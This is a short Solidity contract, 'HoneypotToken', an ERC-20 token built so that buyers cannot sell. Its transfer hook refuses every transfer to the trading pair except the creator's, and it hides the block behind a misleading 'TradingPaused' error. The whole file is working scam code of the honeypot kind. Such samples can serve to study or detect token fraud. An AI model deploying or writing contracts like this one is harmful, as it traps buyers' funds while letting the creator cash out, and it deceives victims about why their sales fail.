// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Erc20} from "./Erc20.sol";

/// Can be bought and not sold: who sends it to the pair is refused, but for its maker.
contract HoneypotToken is Erc20 {
    address private immutable _maker;
    address public pair;

    error TradingPaused();

    constructor() Erc20("Honey Token", "HONEY", 18, 1_000_000e18) {
        _maker = msg.sender;
    }

    function close(address pair_) external {
        if (msg.sender != _maker) revert TradingPaused();
        pair = pair_;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == pair && pair != address(0) && from != _maker) revert TradingPaused();
        super._move(from, to, value);
    }
}
